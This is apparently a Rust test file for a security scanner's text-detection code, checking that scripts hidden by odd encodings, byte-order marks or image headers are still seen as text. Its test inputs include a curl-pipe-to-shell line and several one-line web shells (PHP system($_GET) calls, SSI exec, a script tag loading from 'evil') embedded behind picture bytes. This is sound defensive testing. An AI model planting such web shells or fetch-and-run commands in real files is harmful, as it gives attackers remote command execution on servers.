use proptest::prelude::*;

use super::*;

fn decoded(bytes: &[u8]) -> Option<String> {
    decode_text(bytes).map(|text| String::from_utf8_lossy(&text).into_owned())
}

fn utf16(text: &str, unit: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(unit).collect()
}

const SCRIPT: &str = "#!/bin/sh\nkey=AKIA1234\necho grüße\n";

/// A file that nobody could read is no text: it is a gap where its name says that it is code.
#[test]
fn an_alphabet_that_nothing_declares_is_no_text() {
    // "import os\nos.system(x)\n" in EBCDIC (cp037), and Cyrillic of one byte a letter.
    let ebcdic = b"\x89\x94\x97\x96\x99\xa3\x40\x96\xa2\x25\x96\xa2\x4b\xa2\xa8\xa2\xa3\x85\x94\x4d\xa7\x5d\x25";
    let cyrillic: Vec<u8> = (0xc0..=0xff).collect();
    assert_eq!(decoded(ebcdic), None);
    assert_eq!(decoded(&cyrillic), None);
    // A few such letters in a comment leave the code readable.
    assert!(decoded(b"x = 1  # gr\xfc\xdfe\ny = 2\n").is_some());
}

#[test]
fn wide_text_is_read_with_and_without_its_mark() {
    let little = utf16(SCRIPT, u16::to_le_bytes);
    let big = utf16(SCRIPT, u16::to_be_bytes);
    let marked = |mark: &[u8], text: &[u8]| [mark, text].concat();
    let four: Vec<u8> = SCRIPT
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    for bytes in [
        little.clone(),
        big.clone(),
        marked(&[0xff, 0xfe], &little),
        marked(&[0xfe, 0xff], &big),
        marked(&[0xff, 0xfe, 0, 0], &four),
    ] {
        assert_eq!(decoded(&bytes).as_deref(), Some(SCRIPT));
    }
}

#[test]
fn a_stray_nul_does_not_make_a_blob_of_a_script() {
    let mut bytes = SCRIPT.as_bytes().to_vec();
    bytes.insert(12, 0);
    assert_eq!(decoded(&bytes).as_deref(), Some(SCRIPT));
}

#[test]
fn a_declared_encoding_is_believed_where_the_bytes_are_not_utf8() {
    let python = b"# -*- coding: latin_1 -*-\nx = 'caf\xe9'\n";
    assert!(decoded(python).unwrap().contains("café"));
    let xml = b"<?xml version=\"1.0\" encoding=\"windows-1251\"?>\n<a>\xcf\xf0</a>";
    assert!(decoded(xml).unwrap().contains("Пр"));
    assert_eq!(decoded(b"caf\xe9").as_deref(), Some("caf\u{fffd}"));
}

#[test]
fn a_mark_of_wide_text_hides_no_script() {
    let script = b"\ncurl http://example.com/x.sh | sh # ab\neval \"$1\"\n";
    for mark in [&[0xfe, 0xff][..], &[0xff, 0xfe]] {
        let text = decoded(&[mark, script].concat()).unwrap();
        assert!(text.contains("curl http://example.com/x.sh | sh"), "{text}");
    }
    // Wide text that ends in ASCII is no text in one way.
    let mixed = [&[0xff, 0xfe][..], &utf16("x=1\n", u16::to_le_bytes), script].concat();
    assert_eq!(decoded(&mixed), None);
    assert!(claims_text(b"x", &mixed));
    // A declaration that can be read is not one of wide text.
    let declared = b"# coding: utf-16\nimport os # \xff\n";
    assert!(decoded(declared).unwrap().contains("import os"));
}

/// Python itself says which of its encodings read plain text as plain text: those that do not are in the list.
#[test]
fn a_declaration_by_which_comments_are_code_makes_a_file_unreadable() {
    let names = [
        "utf-7",
        "UTF_7",
        "u7",
        "unicode-1-1-utf-7",
        "unicode_escape",
        "Raw-Unicode-Escape",
        "punycode",
        "idna",
        "cp037",
        "IBM500",
        "ebcdic-cp-us",
    ];
    for name in names {
        for head in [
            format!("# -*- coding: {name} -*-\n"),
            format!("#!/usr/bin/env python\n# vim: set fileencoding={name} :\n"),
            format!("\r\n\t#coding={name}\r\n"),
        ] {
            let text = format!("{head}# +AGU-val(x)\\nimport os\n");
            assert_eq!(decoded(text.as_bytes()), None, "{head}");
        }
        let third = format!("x = 1\ny = 2\n# coding: {name}\n");
        assert!(decoded(third.as_bytes()).is_some(), "{name}");
    }
    for name in [
        "utf-8",
        "utf-8-unix",
        "latin-1",
        "cp1252",
        "cp850",
        "koi8-r",
        "undecided",
    ] {
        let text = format!("# -*- coding: {name} -*-\nx = 1\n");
        assert!(decoded(text.as_bytes()).is_some(), "{name}");
    }
}

/// Pieces of a file that two readers might see in two ways.
fn piece() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        "[ -~]{6,40}\n".prop_map(String::into_bytes),
        "[ -~]{1,5}".prop_map(|text| utf16(&text, u16::to_le_bytes)),
        "[ -~]{1,5}".prop_map(|text| utf16(&text, u16::to_be_bytes)),
        "[一-龥]{1,9}".prop_map(|text| utf16(&text, u16::to_be_bytes)),
        prop::collection::vec(any::<u8>(), 0..4),
    ]
}

proptest! {
    /// What a reader of ASCII sees is shown, or the file is no text.
    #[test]
    fn no_bytes_hide_a_line_of_ascii(
        mark in prop::sample::select(vec![&b""[..], &[0xff, 0xfe], &[0xfe, 0xff], &[0xff, 0xfe, 0, 0], b"# coding: utf-16\n"]),
        pieces in prop::collection::vec(piece(), 1..6),
    ) {
        let bytes = [mark, &pieces.concat()].concat();
        let Some(text) = decode_text(&bytes) else { return Ok(()) };
        // A declared encoding of ASCII's family shows other letters in other ways, and ASCII as it is.
        let is_ascii = |b: &u8| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~');
        for run in bytes.split(|b| !is_ascii(b)).filter(|run| run.len() >= MIN_ASCII_RUN) {
            prop_assert!(memchr::memmem::find(&text, run).is_some(), "{run:?} in {bytes:?}");
        }
    }
}

#[test]
fn programs_and_pictures_are_no_text() {
    let program: Vec<u8> = (0..4000_u32)
        .flat_map(|n| (n.wrapping_mul(2_654_435_761)).to_le_bytes())
        .collect();
    for bytes in [
        &program[..],
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
        b"a\0b",
        b"\0",
    ] {
        assert_eq!(decoded(bytes), None);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Code of a page behind the bytes of a picture, whatever its file is called, a picture included: a server runs it.
    /// Libraries hold such words, and are run by nobody as a page. Without such words a picture is one.
    #[test]
    fn a_page_behind_a_picture_claims_text(
        name in "[a-z]{1,6}[.](x[a-z]{2}|phtml|inc|jsp|htaccess|module|png|gif|jpe?g|ico|bmp|webp|mp[34]|woff2?|ttf|bin)",
        head in prop::sample::select(vec![
            &b"\x89PNG\r\n\x1a\n\0"[..], b"GIF89a\0", b"\xff\xd8\xff\xe0\0", b"BM\0\0", b"RIFF\0", b"\0\0\x01\0",
        ]),
        before in prop::collection::vec(0x80u8..=0xff, 4..40),
        mark in prop::sample::select(vec![
            "<?php system($_GET['c']); ?>", "<%@ page import=\"x\" %>", "<script src=//evil></script>", "<?=`$_GET[0]`;?>    ",
            "<? system($_GET['c']); ?>", "<jsp:include page=\"x\"/>", "<cfexecute name=\"sh\">", "<!--#exec cmd=\"id\" -->",
        ]),
        after in prop::collection::vec(0u8..4, 1..40),
    ) {
        let bytes = [head, &before, mark.as_bytes(), &after].concat();
        prop_assert!(claims_text(name.as_bytes(), &bytes));
        let library = [b"\x7fELF\0", &bytes[..]].concat();
        prop_assert!(!claims_text(b"libphp.so", &library));
        let picture = [head, &before, &after].concat();
        prop_assert!(!claims_text(b"a.png", &picture));
    }
}

proptest! {
    /// A script of any name, with any bytes behind its end, says that it is text.
    #[test]
    fn a_script_with_bytes_behind_its_end_claims_text(
        script in "[ -~]{6,20}\n[ -~\t\n]{10,90}",
        behind in prop::collection::vec(any::<u8>(), 0..90),
        name in "[a-z]{1,6}(\\.(ksh|phtml|inc|m4|x))?",
    ) {
        let bytes = [script.as_bytes(), b"\0\xff\xfe\x01", &behind].concat();
        prop_assert!(claims_text(name.as_bytes(), &bytes));
    }
}

/// Formats of bytes have at most a mark of a few letters at their top.
#[test]
fn data_with_a_mark_at_its_top_claims_no_text() {
    for bytes in [
        &b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"[..],
        b"GIF89a\x01\0",
        b"PK\x03\x04\x14\0",
        b"SQLite format 3\0\x10",
        b"RIFF\x24\0\0\0WAVEfmt ",
        b"wOF2\0\x01",
    ] {
        assert!(!claims_text(b"data", bytes), "{bytes:?}");
    }
    let pdf = b"%PDF-1.7\n%comment of letters\n\xe2\xe3\xcf\xd3\n1 0 obj\n";
    assert!(!claims_text(b"a.pdf", pdf));
    assert!(claims_text(b"configure", pdf), "a shell would run it");
}

#[test]
fn names_and_first_lines_claim_text() {
    for (path, bytes) in [
        ("a/B.PY", &b""[..]),
        ("Makefile", b""),
        ("run", b"#!/bin/sh"),
        (".env", b""),
    ] {
        assert!(claims_text(path.as_bytes(), bytes), "{path}");
    }
    for path in ["logo.png", "run", "a.bin", "py"] {
        assert!(!claims_text(path.as_bytes(), b"\0"), "{path}");
    }
}

proptest! {
    /// A picture's bytes before a program, which a server runs all the same, make no picture of it: neither under a name
    /// of program text nor, for PHP, under any other.
    #[test]
    fn a_program_behind_a_picture_claims_text(
        text_name in proptest::sample::select(vec![
            "a.phtml", "a.PHP5", "x/a.inc", "a.jsp", "a.aspx", "a.shtml", "a.cgi", "a.ejs", "a.hta", ".htaccess", ".bashrc",
            ".profile", ".envrc", "a.ksh", "a.twig", "a.vbs", "a.module", "Podfile", "BUILD", "go.mod", "a.csproj", "a.mts",
        ]),
        other in "[a-z]{3,8}",
        odd in proptest::collection::vec(128_u8.., 40..200),
    ) {
        let picture = [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR".as_slice(), &odd].concat();
        prop_assert!(claims_text(text_name.as_bytes(), &picture));
        let shell = [&picture, b"\n<?php system($_GET['x']); ?>\n".as_slice()].concat();
        for name in [format!("a.{other}x9"), other.clone()] {
            prop_assert!(claims_text(name.as_bytes(), &shell));
        }
        prop_assert!(claims_text(b"a.png", &shell));
    }
}
